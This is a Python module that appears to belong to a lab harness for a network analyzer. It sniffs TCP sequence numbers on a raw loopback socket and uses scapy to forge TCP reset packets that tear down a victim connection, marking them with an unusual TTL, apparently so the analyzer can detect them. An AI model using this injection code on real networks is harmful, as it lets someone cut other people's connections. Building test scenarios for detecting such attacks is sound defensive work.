"""Sniff a connection's next sequence numbers and forge a RST for it (scapy builds the bytes).

Both go through one AF_PACKET socket on the namespace's loopback: reading it gives the exact
sequence numbers the victim expects (TCP_INFO does not expose rcv_nxt); writing a whole
Ethernet frame to it delivers the forged segment as if it had arrived from the wire, with a TTL
the genuine peer never uses.
"""

from __future__ import annotations

import socket
import time

from analyzer.lab.wire import decode_frame

ETH_P_ALL = 0x0003
FORGED_TTL = 37


class Sniffer:
    def __init__(self, iface: str = "lo"):
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.sock.bind((iface, 0))
        self.sock.setblocking(False)
        self.packets: list[dict] = []

    def drain(self, max_frames: int = 2000) -> None:
        for _ in range(max_frames):  # bounded: the namespace only carries the scenario's packets
            try:
                frame = self.sock.recv(65600)
            except BlockingIOError:
                return
            pkt = decode_frame(frame, 1)
            if pkt is not None and pkt.get("proto") == "tcp":
                self.packets.append(pkt)

    def next_seq(self, src: tuple[str, int], dst: tuple[str, int]) -> tuple[int, int] | None:
        """(next seq of src -> dst, next seq of dst -> src) from the last segments seen."""
        self.drain()

        def nxt(a, b):
            for p in reversed(self.packets):
                if (p["src"], p["sport"], p["dst"], p["dport"]) == (*a, *b):
                    extra = 1 if ("S" in p["flags"] or "F" in p["flags"]) else 0
                    return (p["seq"] + p["len"] + extra) & 0xFFFFFFFF
            return None

        fwd, back = nxt(src, dst), nxt(dst, src)
        return None if fwd is None or back is None else (fwd, back)

    def send_rst(self, src: tuple[str, int], dst: tuple[str, int], seq: int, ack: int,
                 ttl: int = FORGED_TTL) -> None:
        from scapy.layers.inet import IP, TCP
        from scapy.layers.inet6 import IPv6
        from scapy.layers.l2 import Ether

        if ":" in src[0]:
            ip = IPv6(src=src[0], dst=dst[0], hlim=ttl)
            ether_type = 0x86DD
        else:
            ip = IP(src=src[0], dst=dst[0], ttl=ttl, id=4242)
            ether_type = 0x0800
        pkt = (Ether(src="00:00:00:00:00:00", dst="00:00:00:00:00:00", type=ether_type) / ip
               / TCP(sport=src[1], dport=dst[1], flags="RA", seq=seq, ack=ack, window=0))
        self.sock.send(bytes(pkt))
        time.sleep(0.02)

    def close(self) -> None:
        self.sock.close()
